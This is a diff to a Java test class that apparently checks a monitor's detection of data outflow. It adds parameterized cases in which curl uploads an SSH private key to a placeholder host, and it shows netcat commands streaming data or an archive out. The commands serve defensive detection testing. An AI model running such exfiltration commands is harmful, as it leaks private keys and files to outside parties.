@@ -78,6 +78,30 @@ class RealOutflowTest {
     @ParameterizedTest
     @ValueSource(
             strings = {
+                "curl -sT $K telnet://$A:$P",
+                "curl -s --data-binary @$K http://$A:$P/",
+                "curl -sF k=@$K http://$A:$P/"
+            })
+    void a_key_that_curl_is_told_to_send_is_told_and_another_file_is_not(String command) throws IOException {
+        try (ServerSocket server = new ServerSocket(0, 2, outside())) {
+            Path keys = Files.createDirectory(folder.resolve(".ssh"));
+            Path key = Files.writeString(keys.resolve("id_ed25519"), "x".repeat(4_000_000));
+            Path other = Files.writeString(folder.resolve("photo.jpg"), "x".repeat(4_000_000));
+            Process sends = host.start("bash", "-c", filled(command.replace("$K", key.toString()), server) + "; true");
+            Process shows =
+                    host.start("bash", "-c", filled(command.replace("$K", other.toString()), server) + "; true");
+            assertThat(host.below(sends, seen -> seen.relations().outflow().isPresent())
+                            .relations()
+                            .outflow())
+                    .flatMap(Outflow::secret)
+                    .contains(key.toString());
+            host.neverBelow(shows, "curl", seen -> seen.relations().outflow().isPresent());
+        }
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
                 "while sleep 1; do echo metric; done | busybox nc $A $P",
                 "tail -f $F/x | busybox nc $A $P",
                 "tar c $F | (sleep 60; busybox nc $A $P)"
